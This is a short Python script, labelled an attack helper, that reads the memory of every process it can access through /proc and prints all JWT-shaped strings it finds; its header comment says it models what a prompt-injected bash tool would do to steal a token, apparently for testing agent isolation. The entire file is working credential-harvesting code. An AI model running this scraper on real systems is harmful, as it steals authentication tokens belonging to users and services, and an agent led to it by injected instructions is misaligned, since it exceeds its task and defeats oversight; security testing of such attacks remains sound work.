# Attack helper: read the memory of every process this one can see and print every
# JWT-shaped string found (what a prompt-injected `bash` would do to steal a token).
import os
import re

JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}")
hits = set()
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except Exception:
        continue
    for line in maps:
        start, end = [int(x, 16) for x in line.split()[0].split("-")]
        if "r" not in line.split()[1] or end - start > 1 << 28:
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except Exception:
            continue
        for m in JWT.finditer(chunk):
            hits.add(m.group(0).decode())
print("\n".join(sorted(hits)) or "no tokens found")
